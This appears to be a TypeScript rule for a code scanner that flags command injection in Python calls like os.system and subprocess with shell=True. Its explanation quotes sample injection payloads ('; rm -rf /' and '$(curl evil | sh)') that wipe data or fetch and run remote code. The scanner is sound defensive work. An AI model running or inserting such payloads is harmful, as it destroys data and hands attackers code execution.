import type { ArgumentFact, CallFact } from "../../python/facts.js";
import type { ModuleInfo, ProjectIndex } from "../../python/project-index.js";
import { defineCheck } from "../define.js";
import { BUILT_STRING_KINDS as BUILT } from "./sinks.js";
import type { Report } from "../types.js";
import { type SinkArgument, describeOrigin, sinkCalls, sinkEvidence } from "./sinks.js";
import { interpolatedParts } from "./sql-injection.js";

/** Run their argument through a shell, always. */
const SHELL_ALWAYS = /^(os\.system|os\.popen|subprocess\.getoutput|subprocess\.getstatusoutput|commands\.getoutput|asyncio\.create_subprocess_shell|asyncio\.subprocess\.create_subprocess_shell)$/;
/** Run through a shell when `shell=True`. */
const SHELL_OPTIONAL = /^subprocess\.(run|call|check_call|check_output|Popen)$/;
/** Quoting for the shell: what is formatted in stays one word. */
const QUOTED = /\b(shlex\.quote|pipes\.quote|shlex\.join|quote)\s*\(/;

function sinkFor(resolved: string, call: CallFact): SinkArgument | null {
  if (SHELL_ALWAYS.test(resolved)) return { position: 0, keyword: resolved.endsWith("system") ? "command" : "cmd" };
  if (SHELL_OPTIONAL.test(resolved) && call.args.some((a) => a.name === "shell" && a.value === true)) return { position: 0, keyword: "args" };
  return null;
}

/** A literal, a module constant, or a string built only from constants and numbers. */
export function isConstantText(index: ProjectIndex, mod: ModuleInfo, arg: ArgumentFact): boolean {
  if (arg.kind === "string" || arg.kind === "number") return true;
  const constantName = (expr: string) => /^([A-Za-z_]\w*\.)*[A-Z][A-Z0-9_]*$/.test(expr) || (/^[A-Za-z_][\w.]*$/.test(expr) && index.constantValue(`#${expr}`, mod.name) != null) || /^\d+$/.test(expr);
  if (arg.kind === "name" || arg.kind === "attribute") return constantName(arg.text);
  if (arg.kind === "fstring" || arg.kind === "concat" || arg.kind === "format" || arg.kind === "percent") {
    const parts = interpolatedParts(arg.text, arg.kind);
    return parts.length > 0 && parts.every(constantName);
  }
  return false;
}

export default defineCheck({
  id: "SEC004",
  area: "security",
  title: "Command injection",
  severity: "high",
  kind: "concern",
  confidence: "high",
  why: "A shell command line built from values lets any of them end the command and start another (`; rm -rf /`, `$(curl evil | sh)`): whoever controls the value runs programs as the service, with its credentials and network.",
  recommendation: "Pass the program and its arguments as a list without a shell (`subprocess.run([\"convert\", src, dst], check=True)`), so each value stays one argument; where a shell is unavoidable, quote every value with `shlex.quote`. Prefer a library over a program where one exists (Pillow over ImageMagick's CLI).",
  example: { bad: 'os.system(f"convert {upload_path} {thumb_path}")', good: 'subprocess.run(["convert", upload_path, thumb_path], check=True, timeout=30)' },
  references: ["https://cwe.mitre.org/data/definitions/78.html", "https://docs.python.org/3/library/subprocess.html#security-considerations", "https://owasp.org/Top10/A03_2021-Injection/"],
  effort: "S",
  libraries: ["shlex", "subprocess"],
  cwe: "CWE-78",
  owasp: "A03:2021",
  run(input) {
    const reports: Report[] = [];
    for (const sink of sinkCalls(input, sinkFor)) {
      const { arg, call, origin } = sink;
      // with no request data in reach, only a string built from values is worth a review (a plain name is a feature's input)
      if (isConstantText(input.index, sink.mod, arg) || (!origin && !BUILT.has(arg.kind))) continue;
      const how = call.callee.endsWith("system") || call.callee.endsWith("popen") || /getoutput|shell/.test(call.callee) ? `${call.callee}()` : `${call.callee}(shell=True)`;
      const where = call.enclosing ? ` in ${call.enclosing}` : "";
      if (QUOTED.test(arg.text)) {
        reports.push({ message: `Review: ${how}${where} runs a command line built from values quoted with shlex.quote; a list of arguments without a shell removes the need.`, evidence: sinkEvidence(sink), severity: "low", confidence: "medium" });
        continue;
      }
      if (origin) {
        reports.push({ message: `${how}${where} runs a shell command built from data the client controls, from ${describeOrigin(origin)}.`, evidence: sinkEvidence(sink) });
        continue;
      }
      reports.push({
        message: `Review: ${how}${where} runs a shell command built from \`${arg.text.length > 60 ? `${arg.text.slice(0, 60)}…` : arg.text}\`; no request data reaches it in this analysis, but any value that can contain shell syntax becomes a command.`,
        evidence: sinkEvidence(sink),
        severity: "low",
        confidence: "low",
      });
    }
    return reports;
  },
});
